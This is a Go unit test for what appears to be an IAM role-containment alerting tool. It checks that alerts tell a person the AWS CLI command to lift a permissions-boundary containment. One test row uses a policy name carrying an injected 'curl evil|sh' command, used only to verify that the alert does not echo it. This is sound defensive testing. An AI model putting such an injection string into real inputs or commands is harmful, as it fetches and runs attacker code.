package alert_test

import (
	"strings"
	"testing"

	"github.com/rolewarden/rolewarden/pkg/alert"
	"github.com/rolewarden/rolewarden/pkg/decision"
)

// T69: the alert holds the command by which a person, and nobody else, lets the
// role's sessions work again; and no boundary's name makes it another command.
func TestWhatLiftsAContainmentIsTold(t *testing.T) {
	const all = "arn:aws:iam::aws:policy/AWSDenyAll"
	for name, row := range map[string]struct {
		was       decision.Contained
		says, not string
	}{
		"there was one":           {decision.Contained{Asked: true, Done: true, Verified: true, Before: "arn:aws:iam::111122223333:policy/team/Edge", After: all}, "put-role-permissions-boundary --role-name app --permissions-boundary arn:aws:iam::111122223333:policy/team/Edge", "delete-role"},
		"there was none":          {decision.Contained{Asked: true, Done: true, Verified: true, After: all}, "aws iam delete-role-permissions-boundary --role-name app", "put-role"},
		"it was shut before":      {decision.Contained{Asked: true, Done: true, Verified: true, Before: all, After: all}, "Sessions already issued are shut out too", "permissions-boundary --role-name"},
		"nothing was done":        {decision.Contained{Asked: true, Problem: "Sessions already issued go on: no way."}, "Sessions already issued go on: no way.", "permissions-boundary --role-name"},
		"it does not show yet":    {decision.Contained{Asked: true, Done: true, After: all}, "look at it now", "a later read showed it. Only"},
		"a name that is a trap":   {decision.Contained{Asked: true, Done: true, Verified: true, Before: "arn:aws:iam::aws:policy/x;curl evil|sh", After: all}, "--permissions-boundary POLICY-ARN", "evil"},
		"nobody asked for it":     {decision.Contained{}, "", "boundary"},
		"asked for, and a reason": {decision.Contained{Asked: true, Done: true, After: all, Problem: "IAM took the boundary and did not show it."}, "IAM took the boundary and did not show it.", "look at it now"},
	} {
		t.Run(name, func(t *testing.T) {
			a := alert.Build(alert.Input{Now: noon(), Role: app(opened), Decision: decided(decision.Revert, "Because."), Outcome: decision.Outcome{Done: decision.Revert, Verified: true, Contained: row.was}})
			how := a.Text()[strings.Index(a.Text(), "What was done"):]
			if !strings.Contains(how, row.says) || strings.Contains(how, row.not) {
				t.Errorf("says:\n%s", how)
			}
		})
	}
}
